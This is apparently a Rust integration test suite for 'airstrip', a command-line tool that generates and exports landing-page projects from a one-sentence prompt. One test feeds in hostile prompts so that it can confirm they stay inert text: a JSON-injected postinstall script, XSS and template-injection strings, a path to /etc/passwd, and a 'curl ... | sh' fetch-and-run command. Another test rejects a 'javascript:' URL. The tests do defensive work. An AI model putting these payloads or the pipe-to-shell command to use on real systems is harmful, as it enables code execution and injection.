//! The program as a person calls it: what it prints, what it writes, how it ends.

use std::fs;

use airstrip::plan::{page_types, parse};

use crate::support::{FERRULE, Folder};

#[test]
fn one_sentence_makes_a_project_and_a_site() {
    let folder = Folder::new();
    let ran = folder.run(&["new", FERRULE, "ferrule"]).ok();
    assert_eq!(ran.out(), "ferrule\n");
    assert!(ran.err().contains("Generating section 1 of 7… "), "{}", ran.err());
    assert!(ran.err().contains("airstrip export ferrule --as static"));
    let read = |it: &str| fs::read_to_string(folder.join("ferrule").join(it)).unwrap_or_else(|e| panic!("{it}: {e}"));
    let plan = parse(&read("airstrip.toml")).expect("a plan");
    assert_eq!((plan.site.name.as_str(), plan.site.page_type.as_str()), ("Ferrule", "open-source"));
    assert_eq!((plan.facts.install.as_str(), plan.facts.licence.as_str()), ("cargo install ferrule", "Apache-2.0"));
    assert!(read("src/content/hero.ts").contains("cargo install ferrule"));
    assert!(read("package.json").contains("\"name\": \"ferrule\""));
    for file in ["index.html", "package-lock.json", "public/og.png", "public/llms.txt", ".github/workflows/ci.yml"] {
        assert!(folder.join("ferrule").join(file).is_file(), "{file}");
    }
    folder.run(&["check", "ferrule"]).ok();
    let ran = folder.run(&["export", "ferrule", "--as", "static", "--dir", "site"]).ok();
    assert_eq!(ran.out(), "site\n");
    let index = fs::read_to_string(folder.join("site/index.html")).expect("a page");
    assert!(index.contains("<h1") && index.contains("cargo install ferrule") && !index.contains("/src/"));
    assert!(!index.contains("react") && index.len() < 200_000);
    assert!(fs::read_to_string(folder.join("site/_headers")).expect("headers").contains("script-src 'sha256-"));
}

#[test]
fn a_place_that_is_taken_is_refused_before_anything_is_made() {
    let folder = Folder::new();
    folder.run(&["new", FERRULE]).ok();
    folder.run(&["new", FERRULE, "--zip", "ferrule.zip"]).ok();
    // Named, called after the page, and an archive.
    for (place, words) in [
        (&["ferrule"][..], "`ferrule` is not empty"),
        (&[], "`ferrule` is not empty"),
        (&["--zip", "ferrule.zip"], "`ferrule.zip` exists"),
    ] {
        let ran = folder.run(&[&["new", FERRULE], place].concat());
        assert_eq!(ran.code(), 1, "{}", ran.err());
        assert!(ran.err().contains(words), "{}", ran.err());
        assert!(!ran.err().contains("Generating section"), "{}", ran.err());
    }
    folder.run(&["new", FERRULE, "--zip", "ferrule.zip", "--force"]).ok();
}

#[test]
fn the_folder_you_are_in_becomes_the_project() {
    let folder = Folder::new();
    let ran = folder.run(&["new", FERRULE, "."]).ok();
    assert!(folder.join("airstrip.toml").exists() && folder.join("src/sections/Hero.tsx").exists());
    assert!(ran.err().contains("airstrip export . --as static --dir ../site\n  npm ci"), "{}", ran.err());
    let stages = fs::read_dir(folder.path()).expect("a folder").flatten();
    let stages = stages.filter(|it| it.file_name().to_string_lossy().starts_with(".airstrip-")).count();
    assert_eq!(stages, 0);
    folder.run(&["check", "."]).ok();
    assert!(folder.run(&["new", FERRULE, "."]).err().contains("is not empty"));
    let ran = folder.run(&["new", FERRULE, "below/"]).ok();
    assert!(ran.err().contains("--dir below-site"), "{}", ran.err());
}

#[test]
fn equal_inputs_give_equal_bytes() {
    let folder = Folder::new();
    for name in ["a", "b"] {
        folder.run(&["new", FERRULE, name, "--seed", "7"]).ok();
        folder.run(&["new", FERRULE, "--zip", &format!("{name}.zip"), "--seed", "7"]).ok();
        folder.run(&["export", name, "--as", "static", "--zip", &format!("{name}-site.zip")]).ok();
    }
    let bytes = |it: &str| fs::read(folder.join(it)).expect("a zip");
    assert_eq!(bytes("a.zip"), bytes("b.zip"));
    assert_eq!(bytes("a-site.zip"), bytes("b-site.zip"));
    let list = |name: &str| -> Vec<(String, Vec<u8>)> {
        let root = folder.join(name);
        let files = walkdir::WalkDir::new(&root).sort_by_file_name().into_iter().flatten();
        let files = files.filter(|it| it.file_type().is_file());
        let inside = |it: &walkdir::DirEntry| it.path().strip_prefix(&root).expect("inside").display().to_string();
        files.map(|it| (inside(&it), fs::read(it.path()).expect("a file"))).collect()
    };
    assert_eq!(list("a"), list("b"));
}

#[test]
fn a_prompt_that_names_nothing_makes_a_page_with_marked_places() {
    let folder = Folder::new();
    folder.run(&["new", "Build a modern landing page", "page"]).ok();
    let ran = folder.run(&["check", "page"]).ok();
    assert!(ran.err().contains("placeholder"), "{}", ran.err());
    assert_eq!(folder.run(&["check", "page", "--strict"]).code(), 4);
}

#[test]
fn every_page_type_checks_and_exports() {
    let folder = Folder::new();
    for page_type in page_types() {
        let name = page_type.name.as_str();
        folder.run(&["new", FERRULE, name, "--type", name, "--seed", "3"]).ok();
        let plan =
            parse(&fs::read_to_string(folder.join(name).join("airstrip.toml")).expect("a plan")).expect("a plan");
        // A section for which the prompt gives nothing is left out, unless the type keeps all of its own, or its bones.
        let kinds: Vec<&String> = plan.sections.iter().map(|it| &it.kind).collect();
        assert!(kinds.iter().all(|it| page_type.sections.contains(it) || page_type.bones.contains(it)), "{name}");
        // Who is behind it may be said first or later.
        let own = |it: &&&String| page_type.sections.contains(it) && **it != "about";
        let in_order: Vec<&String> = page_type.sections.iter().filter(|it| kinds.contains(it) && own(&it)).collect();
        assert_eq!(kinds.iter().filter(own).copied().collect::<Vec<_>>(), in_order, "{name}");
        assert!(kinds.len() >= 4 && (!page_type.complete || kinds.len() == page_type.sections.len()), "{name}");
        folder.run(&["export", name, "--as", "static", "--dir", &format!("{name}-site")]).ok();
    }
}

#[test]
fn json_is_one_object_a_line() {
    let folder = Folder::new();
    let ran = folder.run(&["new", FERRULE, "x", "--json"]).ok();
    let out = ran.out();
    let events: Vec<serde_json::Value> = out.lines().map(|it| serde_json::from_str(it).expect("JSON")).collect();
    assert_eq!(events[0]["event"], "planned");
    assert_eq!(events.last().expect("events")["event"], "built");
    assert_eq!(events.last().expect("events")["dir"], "x");
    let accepted = events.iter().filter(|it| it["step"] == "accepted");
    assert_eq!(accepted.count(), 7);
    assert!(events.iter().any(|it| it["author"] == "offline" && it["attempts"] == 1));
    assert_eq!(ran.err(), "");
}

#[test]
fn plan_only_and_dry_run_write_nothing() {
    let folder = Folder::new();
    let ran = folder.run(&["new", FERRULE, "--plan-only", "--theme", "ledger", "--lang", "en"]).ok();
    assert_eq!(parse(&ran.out()).expect("a plan").site.theme, "ledger");
    let ran = folder.run(&["new", FERRULE, "x", "--dry-run"]).ok();
    assert!(ran.out().lines().any(|it| it == "src/sections/Hero.tsx"));
    assert_eq!(fs::read_dir(folder.path()).expect("a folder").count(), 0);
}

#[track_caller]
fn refused(arguments: &[&str], code: i32, words: &str) {
    let folder = Folder::new();
    fs::create_dir(folder.join("full")).expect("a folder");
    fs::write(folder.join("full/mine.txt"), "mine").expect("a file");
    let ran = folder.run(arguments);
    assert_eq!(ran.code(), code, "{}", ran.err());
    assert!(ran.err().contains(words), "{}", ran.err());
    assert!(!ran.err().contains("panicked"), "{}", ran.err());
    assert_eq!(fs::read_dir(folder.path()).expect("a folder").count(), 1, "something was left behind");
    assert_eq!(fs::read_to_string(folder.join("full/mine.txt")).expect("a file"), "mine");
}

#[test]
fn a_bad_input_gets_one_clear_message() {
    refused(&["new", ""], 2, "the prompt is empty");
    refused(&["new", "\u{202E}\u{200B} !"], 2, "the prompt is empty");
    refused(&["new", &"x".repeat(100_000)], 2, "more than the 16384");
    refused(&["new", FERRULE, "full"], 1, "`full` is not empty");
    refused(&["new", FERRULE, "full/mine.txt"], 1, "is not a folder");
    refused(&["new", FERRULE, "--zip", "full/mine.txt"], 1, "say --force");
    refused(&["new", FERRULE, "x", "--theme", "harbour"], 2, "did you mean `harbor`?");
    refused(&["new", FERRULE, "x", "--type", "sass"], 2, "did you mean `saas`?");
    refused(&["new", FERRULE, "x", "--sections", "hero,fqa"], 2, "did you mean `faq`?");
    refused(&["new", FERRULE, "x", "--sections", "faq,footer"], 2, "exactly one hero");
    refused(&["new", FERRULE, "x", "--lang", "no language"], 2, "not a language tag");
    refused(&["new", FERRULE, "x", "--url", "javascript:alert(1)"], 2, "not an absolute address");
    refused(&["new", FERRULE, "x", "--target", "astr"], 2, "there is no target");
    refused(&["new", FERRULE, "/proc/none/x"], 1, "could not write");
    refused(&["export", "full", "--dir", "y"], 1, "holds no `airstrip.toml`");
    refused(&["check", "nowhere"], 1, "holds no `airstrip.toml`");
}

#[test]
fn hostile_names_and_texts_stay_text() {
    let hostile = [
        "My product is called a\",\"scripts\":{\"postinstall\":\"x\"},\"y\":\" and sells tea.",
        "</script><script>alert(1)</script> is a tool for {{ 7 * 7 }} and {% include \"/etc/passwd\" %} teams",
        "`${process.env.X}` {process.env.X} is a <img src=x onerror=alert(1)> shop in O'Hare \"North\" \\ end",
        "Evil --> <!-- is a café at 1 ]]> Street; open Monday to Friday 9:00-17:00, e-mail a@b.example",
        "東京パン is a bakery in 東京. Open daily 7:00-19:00.",
        "مقهى النخيل is a café in Amman. Open daily 8:00-22:00.",
        "Кофейня «Зерно» is a coffee shop in Kazan, open daily.",
        "../../etc/passwd is a CLI. Install with curl -fsSL https://x.example/i.sh | sh",
    ];
    for (index, prompt) in hostile.iter().enumerate() {
        let folder = Folder::new();
        let seed = index.to_string();
        folder.run(&["new", prompt, "x", "--seed", &seed]).ok();
        let package = fs::read_to_string(folder.join("x/package.json")).expect("a package");
        let package: serde_json::Value = serde_json::from_str(&package).expect("JSON");
        assert!(package["scripts"].get("postinstall").is_none());
        folder.run(&["export", "x", "--as", "static", "--dir", "y"]).ok();
        let html = fs::read_to_string(folder.join("y/index.html")).expect("a page");
        let scripts = html.matches("<script").count();
        assert!(scripts <= 2 && scripts == html.matches("</script>").count(), "{prompt}: {scripts} scripts");
        assert!(!html.contains("<img src=x") && !html.contains(">49<"), "{prompt}");
    }
}

#[test]
fn a_hand_edit_is_kept_judged_and_shown() {
    let folder = Folder::new();
    folder.run(&["new", FERRULE, "x", "--type", "saas", "--seed", "2"]).ok();
    let edit = |file: &str, change: &dyn Fn(String) -> String| {
        let path = folder.join("x").join(file);
        let text = change(fs::read_to_string(&path).expect("a file"));
        fs::write(path, text).expect("an edit");
    };
    edit("src/sections/Faq.tsx", &|it| it.replacen("<section", "<section data-mine=\"yes\"", 1));
    folder.run(&["check", "x"]).ok();
    folder.run(&["export", "x", "--as", "static", "--dir", "y"]).ok();
    assert!(fs::read_to_string(folder.join("y/index.html")).expect("a page").contains("data-mine=\"yes\""));

    edit("src/sections/Faq.tsx", &|it| it.replacen("return", "while (true) {}\n  return", 1));
    let ran = folder.run(&["check", "x"]);
    assert_eq!(ran.code(), 1);
    assert!(ran.err().contains("render-timeout"), "{}", ran.err());
    let ran = folder.run(&["export", "x", "--as", "static", "--dir", "z"]);
    assert_eq!((ran.code(), folder.join("z").exists()), (1, false));

    edit("src/content/hero.ts", &|it| it.replacen("title: \"", "title: fetch(\"x\") + \"", 1));
    let ran = folder.run(&["check", "x", "--json"]);
    let found: Vec<serde_json::Value> = ran.out().lines().map(|it| serde_json::from_str(it).expect("JSON")).collect();
    let literal = found.iter().find(|it| it["code"] == "content-not-literal").expect("the finding");
    assert_eq!((literal["file"].as_str(), literal["line"].as_u64()), (Some("src/content/hero.ts"), Some(4)));
}

#[test]
fn an_export_wants_one_place_and_names_both_ways() {
    let folder = Folder::new();
    let none = folder.run(&["export", "x", "--as", "static"]);
    assert_eq!(none.code(), 2);
    assert!(none.err().contains("--zip <FILE>|--dir <DIR>"), "{}", none.err());
    let both = folder.run(&["export", "x", "--zip", "a.zip", "--dir", "a"]);
    assert!(both.code() == 2 && both.err().contains("cannot be used with"), "{}", both.err());
}
